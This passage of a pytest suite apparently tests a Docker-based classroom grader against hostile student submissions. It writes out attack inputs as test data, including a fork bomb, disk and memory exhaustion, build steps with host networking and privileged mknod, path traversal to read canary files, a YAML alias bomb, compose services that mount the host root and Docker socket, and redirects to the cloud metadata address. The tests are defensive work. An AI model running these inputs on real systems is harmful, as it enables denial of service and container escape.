    def do_GET(self):
        {answer}
    def say(self, status=200, body=b"", **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)
http.server.ThreadingHTTPServer(("0.0.0.0", 8000), App).serve_forever()
"""
BUILD_ROWS = [
    (
        "fork bomb",
        BASE + f"COPY <<'END' /bomb.py\n{FORK_BOMB}\nEND\nRUN timeout 10 python /bomb.py\n" + PAGE_AND_APP,
        0,
    ),
    ("fill the disk", BASE + "RUN head -c 8G /dev/zero >/big\n" + PAGE_AND_APP, 0),
    ("fill memory", BASE + "RUN tail /dev/zero\n" + PAGE_AND_APP, 0),
    ("endless build", BASE + "RUN while :; do :; done\n" + PAGE_AND_APP, 0),
    ("endless logs at full speed", BASE + "RUN timeout 20 yes @MARK@; false\n" + PAGE_AND_APP, 0),
    (
        "DNS and HTTP to the outside",
        BASE + "RUN python -c 'import urllib.request as u; u.urlopen(\"http://example.org/\")'\n" + PAGE_AND_APP,
        0,
    ),
    ("ports of other services", BASE + "ADD http://127.0.0.1:@PORT@/ /x\n" + PAGE_AND_APP, 0),
    ("the network of the host", BASE + "RUN --network=host python -c 'open(\"/x\")'\n" + PAGE_AND_APP, 0),
    ("privileged steps", BASE + "RUN --security=insecure mknod /disk b 7 0\n" + PAGE_AND_APP, 0),
    ("a secret of the grader's machine", BASE + "RUN --mount=type=ssh ssh-add -l\n" + PAGE_AND_APP, 0),
    ("a frontend from elsewhere", "# syntax=127.0.0.1:@PORT@/frontend\n" + BASE + PAGE_AND_APP, 0),
    ("a file outside of the context", BASE + "COPY ../../../../../../@CANARY@ /x\n" + PAGE_AND_APP, 0),
    (
        "the context by its absolute path",
        BASE + "RUN --mount=type=bind,source=/,target=/c cat /c@CANARY@\n" + PAGE_AND_APP,
        0,
    ),
]


@pytest.mark.parametrize(
    ("dockerfile", "points"),
    [named(words, text, points) for words, text, points in BUILD_ROWS],
)
def test_a_dockerfile_that_attacks_gets_nothing(dockerfile: str, points: int, place: Place) -> None:
    files = files_of(FILES_EXERCISE, {"Dockerfile": place.fill(dockerfile).encode()})
    verdict = graded(FILES_EXERCISE, files, seconds=45)
    assert verdict["points"] == points
    assert verdict["outcome"] in {"failed", "ungradable"}
    assert "nothing happened" not in json.dumps(verdict)


APP_ROWS = [
    ("answers the grader alone", 'self.say(200 if "curl" in self.headers["User-Agent"] else 500, PAGE)', (8, 10)),
    ("answers others alone", 'self.say(500 if "curl" in self.headers["User-Agent"] else 200, PAGE)', (8, 10)),
    ("streams for ever", "self.say()\n        while True:\n            self.wfile.write(b'x' * 65536)", (8,)),
    ("answers a byte now and then", "self.say()\n        import time\n        while True:\n            self.wfile.write(b'x'); time.sleep(1)", (8,)),
    ("never answers", "import time; time.sleep(9999)", (8,)),
    ("answers 1 GB", "self.say()\n        for _ in range(1024):\n            self.wfile.write(bytes(1 << 20))", (8,)),
    ("endless headers", "self.wfile.write(b'HTTP/1.1 200 OK')\n        while True:\n            self.wfile.write(b'\\r\\nX: ' + b'x' * 60000)", (8,)),
    ("redirects to the metadata address", 'self.say(302, PAGE, Location="http://169.254.169.254/latest/meta-data/")', (8,)),
    ("redirects to the host", 'self.say(307, PAGE, Location="http://127.0.0.1:@PORT@/")', (8,)),
    ("redirects to a file", 'self.say(301, PAGE, Location="file://@CANARY@")', (8,)),
    ("speaks no HTTP", "self.wfile.write(b'\\0\\xff' * 1000)", (8,)),
]  # fmt: skip


@pytest.mark.parametrize(("answer", "points"), [named(words, text, points) for words, text, points in APP_ROWS])
def test_an_app_that_answers_in_a_hostile_way_gets_points_only_for_the_rest(
    answer: str, points: tuple[int, ...], place: Place
) -> None:
    app = place.fill(APP.format(answer=answer)).encode()
    verdict = graded(
        FILES_EXERCISE,
        files_of(FILES_EXERCISE, {"own.py": app, "Dockerfile": place.fill(BASE + PAGE_AND_OWN_APP).encode()}),
    )
    assert verdict["points"] in points
    assert verdict["outcome"] != "ungradable"
    assert "nothing happened" not in json.dumps(verdict)


SMALL_GRADER = """
import json, resource, sys
from environment.engines.namespace import Limits
from graders.classroom.grading import Task, grade_answer, grader_digest
from graders.classroom.history import Key
from graders.classroom.submission import Answer, File
from graders.exercise import load
resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))
exercise, files = json.load(sys.stdin)
answer = Answer(exercise, tuple(File(name, content.encode()) for name, content in files.items()))
key = Key(exercise, answer.digest, "attacks", grader_digest(load(exercise)), "namespace")
verdict = grade_answer(Task(key, answer, "namespace", 60, Limits(disk=3 << 30)))
most = max(resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))
print(json.dumps({"verdict": verdict, "memory": most << 10}))
"""
HUGE = [
    (
        "a file of 100 GB without content",
        "images/image-or-container",
        {
            COMMANDS: "docker run --detach --name dd-twin-a --label @MARK@ nginx:1.26\n"
            "docker run --detach --name dd-twin-b --label @MARK@ nginx:1.26\n"
            "docker exec dd-twin-a truncate -s 100G /usr/share/nginx/html/index.html\n"
        },
        1,
    ),
    (
        "a file of 2 GB in the image",
        FILES_EXERCISE,
        {"Dockerfile": BASE + "RUN truncate -s 2G /app/page.html\n", "make_page.py": "x", "menu.csv": "x,1\n"},
        6,
    ),
    (
        "a log of many lines in the build",
        FILES_EXERCISE,
        {"Dockerfile": BASE + "RUN timeout 20 yes | head -c 3G; false\n", "make_page.py": "x", "menu.csv": "x,1\n"},
        0,
    ),
]  # fmt: skip


@pytest.mark.parametrize(("exercise", "files", "points"), [named(words, e, f, p) for words, e, f, p in HUGE])
def test_what_is_huge_does_not_fill_the_memory_of_who_grades(
    exercise: str, files: dict[str, str], points: int, place: Place
) -> None:
    given = json.dumps([exercise, {name: place.fill(content) for name, content in files.items()}])
    grader = subprocess.run(
        [sys.executable, "-c", SMALL_GRADER], cwd=ROOT, input=given, capture_output=True, text=True, check=False
    )
    assert grader.returncode == 0, grader.stderr
    said = json.loads(grader.stdout)
    print(json.dumps(said, indent=1))
    assert said["memory"] < GIB
    assert said["verdict"]["points"] <= points
    assert "grader broke" not in json.dumps(said)


def test_settings_of_the_docker_client_of_who_grades_do_not_reach_an_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, place: Place
) -> None:
    settings = {"proxies": {"default": {"httpProxy": "http://name:a-secret-word@127.0.0.1:9"}}}
    (tmp_path / "config.json").write_text(json.dumps(settings))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    dockerfile = place.fill(BASE + "RUN env; false\n").encode()
    verdict = graded(FILES_EXERCISE, files_of(FILES_EXERCISE, {"Dockerfile": dockerfile}))
    assert "PATH=" in json.dumps(verdict)
    assert "a-secret-word" not in json.dumps(verdict)


# What the folder holds

SOLUTION = (load(FILES_EXERCISE).folder / "solution/Dockerfile").read_bytes()
FOLDER_ROWS = [
    ("a Dockerfile that is a folder", {"Dockerfile": None, "Dockerfile/Dockerfile": SOLUTION}, "failed", 0),
    ("no Dockerfile", {"Dockerfile": None}, "failed", 0),
    ("CRLF", {"Dockerfile": SOLUTION.replace(b"\n", b"\r\n")}, "passed", 10),
    ("BOM", {"Dockerfile": b"\xef\xbb\xbf" + SOLUTION}, "passed", 10),
    ("NUL bytes", {"Dockerfile": SOLUTION.replace(b"WORKDIR", b"WORK\0DIR")}, "failed", 0),
    ("UTF-16", {"Dockerfile": SOLUTION.decode().encode("utf-16")}, "failed", 0),
    ("20 MB of comments", {"Dockerfile": b"# x\n" * (5 << 20) + SOLUTION}, "failed", 0),
    ("a .dockerignore that leaves out all", {".dockerignore": b"*\n!**\n[\n"}, "failed", 0),
    ("a .env that names another Engine", {".env": b"DOCKER_HOST=tcp://127.0.0.1:@PORT@\nPATH=/nowhere\n"}, "passed", 10),
    ("a docker folder with a context", {".docker/config.json": b'{"currentContext": "other"}'}, "passed", 10),
    ("a bake file", {"docker-bake.hcl": b'target "default" { output = ["type=local,dest=/"] }'}, "passed", 10),
]  # fmt: skip


@pytest.mark.parametrize(
    ("changed", "outcome", "points"),
    [named(words, c, o, p) for words, c, o, p in FOLDER_ROWS],
)
def test_a_folder_with_odd_files_is_graded_for_what_it_is(
    changed: dict[str, bytes | None], outcome: str, points: int, place: Place
) -> None:
    filled = {name: content and content.replace(b"@PORT@", b"%d" % place.port) for name, content in changed.items()}
    verdict = graded(FILES_EXERCISE, files_of(FILES_EXERCISE, filled))
    assert (verdict["outcome"], verdict["points"]) == (outcome, points)


def test_commands_with_windows_line_ends_and_a_byte_order_mark_are_graded(place: Place) -> None:
    text = place.fill("# first\n" + RIGHT).replace("\n", "\r\n").encode()
    assert graded(COMMANDS_EXERCISE, [File(COMMANDS, b"\xef\xbb\xbf" + text)])["points"] == ALL


def test_an_env_file_cannot_turn_the_commands_to_another_engine(place: Place) -> None:
    setting = "DOCKER_HOST=tcp://127.0.0.1:@PORT@\nCOMPOSE_FILE=/etc/passwd\nPATH=/nowhere\n"
    commands = "docker compose config; docker info --format 'engine {{.Name}}'\n" + RIGHT
    files = [File(".env", place.fill(setting).encode()), File(COMMANDS, place.fill(commands).encode())]
    assert graded(COMMANDS_EXERCISE, files)["points"] == ALL


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
YAML_ROWS = [
    (
        "aliases",
        f"x-bomb:\n{''.join(f'  {line}' + chr(10) for line in BOMB.splitlines())}services: {{a: {{image: nginx}}}}\n",
    ),
    ("duplicate keys", "services:\n  a: {image: nginx}\n  a: {image: busybox}\n"),
    ("20 MB", "services:\n" + "".join(f"  s{n}: {{image: nginx, labels: {{x: {'y' * 2000}}}}}\n" for n in range(9000))),
    ("a circle of includes", "include: [compose.yaml]\nservices: {a: {image: nginx}}\n"),
    ("files of the machine", "services: {a: {image: nginx, env_file: [@CANARY@, @GRADEBOOK@]}}\n"),
]


@pytest.mark.parametrize("text", [named(words, text) for words, text in YAML_ROWS])
def test_a_compose_file_that_attacks_gets_nothing(text: str, place: Place) -> None:
    files = [
        File("compose.yaml", place.fill(text).encode()),
        File(COMMANDS, b"docker compose config >out 2>&1; tail -c 300 out; echo; exit 9"),
    ]
    verdict = graded(COMMANDS_EXERCISE, files)
    assert verdict["points"] == 0
    assert "nothing happened" not in json.dumps(verdict)


PROJECT = "compose/first-stack"
PROJECT_ROWS = [
    ("a project that includes a file of the machine", "name: dd", "include: [@CANARY@]\nname: dd"),
    ("a project that tells files of the machine", "build: web", "build: web\n    env_file: [@CANARY@, @GRADEBOOK@]"),
    ("a project that mounts files of the machine", "build: web", "build: web\n    volumes: ['@CANARY@:/app/app.py']"),
    (
        "a project that builds the whole machine",
        "build: web",
        'build: {context: /, dockerfile_inline: "FROM busybox:1.37\\nCOPY . /all\\nRUN cat /all@CANARY@\\n"}',
    ),
    (
        "a project that may do everything",
        "build: web",
        (
            "build: web\n    labels: [@MARK@]\n    privileged: true\n    pid: host\n    network_mode: host\n    volumes: "
            "['/:/host', '/var/run/docker.sock:/sock']\n    command: sh -c 'cat /host@CANARY@; exec -a @MARK@ sleep 600'"
        ),
    ),
    (
        "a project of a thousand services",
        "services:",
        "services:\n"
        + "".join(f"  s{n}: {{image: 'busybox:1.37', labels: [@MARK@], command: sleep 600}}\n" for n in range(1000)),
    ),
]


@pytest.mark.parametrize(("line", "instead"), [named(words, *lines) for words, *lines in PROJECT_ROWS])
def test_a_compose_project_that_attacks_gets_only_what_it_has_done(line: str, instead: str, place: Place) -> None:
    told = (load(PROJECT).folder / "solution" / "compose.yaml").read_text().replace(line, place.fill(instead), 1)
    verdict = graded(PROJECT, files_of(PROJECT, {"compose.yaml": told.encode()}), seconds=90)
    assert verdict["outcome"] in {"failed", "ungradable"}
    assert "nothing happened" not in json.dumps(verdict)


# Around it


def test_without_an_engine_an_answer_is_ungradable(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as changed:
        changed.setenv("DOCKER_HOST", f"unix://{place.folder}/none.sock")
        verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, RIGHT.encode())])
    assert (verdict["outcome"], verdict["points"]) == ("ungradable", 0)
    assert verdict["message"]
    passes_next()


@pytest.mark.parametrize(
    "nonsense",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n[1, null]",
        b"HTTP/1.1 500 Oh\r\nContent-Length: 0\r\n\r\n",
        b"\0\xff no HTTP \r\n\r\n",
        b"",
    ],
    ids=["an-empty-object", "a-list", "status-500", "no-HTTP", "nothing"],
)
def test_an_engine_that_answers_nonsense_makes_an_answer_ungradable(
    nonsense: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]

    def serve() -> None:
        while True:
            connection, _ = server.accept()
            with connection:
                if connection.recv(1 << 16) == b"stop":
                    return
                connection.sendall(nonsense)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    with monkeypatch.context() as changed:
        changed.setenv("DOCKER_HOST", f"tcp://127.0.0.1:{port}")
        verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, RIGHT.encode())])
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.sendall(b"stop")
    thread.join()
    server.close()
    assert (verdict["outcome"], verdict["points"]) == ("ungradable", 0)
    assert "Traceback" not in verdict["message"]


def test_an_engine_that_never_answers_makes_an_answer_ungradable(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent, monkeypatch.context() as changed:
        changed.setenv("DOCKER_HOST", f"tcp://127.0.0.1:{silent.getsockname()[1]}")
        verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, RIGHT.encode())])
    assert (verdict["outcome"], verdict["points"]) == ("ungradable", 0)


def test_an_engine_that_stops_in_mid_check_makes_an_answer_ungradable(place: Place, tmp_path: Path) -> None:
    Answer(FILES_EXERCISE, tuple(files_of(FILES_EXERCISE, {}))).write(tmp_path / "answer")
    connection = connect("namespace", internet=False)
    first: list[str] = []

    def stop(result: object) -> None:
        first.append(str(result))
        connection.close()

    verdict = grade(load(FILES_EXERCISE), connection, tmp_path / "answer", fresh=True, on_result=stop)
    assert verdict.outcome == "ungradable"
    assert first
    passes_next()


def test_a_course_image_that_is_missing_makes_an_answer_ungradable(place: Place, tmp_path: Path) -> None:
    Answer(COMMANDS_EXERCISE, (File(COMMANDS, place.fill(RIGHT).encode()),)).write(tmp_path / "answer")
    with contextlib.closing(connect("namespace", internet=False)) as connection:
        connection.client.images.remove("nginx:1.26", force=True)
        verdict = grade(load(COMMANDS_EXERCISE), connection, tmp_path / "answer", fresh=True)
    assert (verdict.outcome, verdict.points) == ("ungradable", 0)
    assert "`nginx:1.26`" in str(verdict.problem)


def test_who_removes_a_course_image_gets_nothing_and_the_next_one_passes() -> None:
    verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, b"docker image rm --force nginx:1.26")])
    assert verdict["points"] == 0
    passes_next()


@pytest.mark.all
def test_a_disk_that_is_full_makes_an_answer_fail_or_ungradable_and_the_next_one_passes(place: Place) -> None:
    fill = "head -c 8G /dev/zero >/var/lib/docker/big; head -c 8G /dev/zero >/big\n"
    verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, place.fill(RIGHT + fill).encode())])
    # What ran before the disk was full runs on.
    assert verdict["points"] in {0, ALL}
    passes_next()


def test_time_that_runs_out_makes_an_answer_ungradable(place: Place) -> None:
    commands = place.fill("while :; do docker run --rm --label @MARK@ busybox:1.37 true; done")
    verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, commands.encode())], seconds=5)
    assert verdict["outcome"] == "ungradable"
    assert "took longer than" in verdict["message"]


def test_the_same_answer_twice_at_the_same_time_is_graded_alike(place: Place) -> None:
    from concurrent.futures import ThreadPoolExecutor

    files = [File(COMMANDS, place.fill(RIGHT).encode())]
    with ThreadPoolExecutor(2) as pool:
        both = list(pool.map(lambda _: graded(COMMANDS_EXERCISE, files), range(2)))
    assert [verdict["points"] for verdict in both] == [ALL, ALL]


def test_after_all_of_this_a_right_answer_passes() -> None:
    passes_next()
    assert graded(FILES_EXERCISE, files_of(FILES_EXERCISE, {}))["outcome"] == "passed"
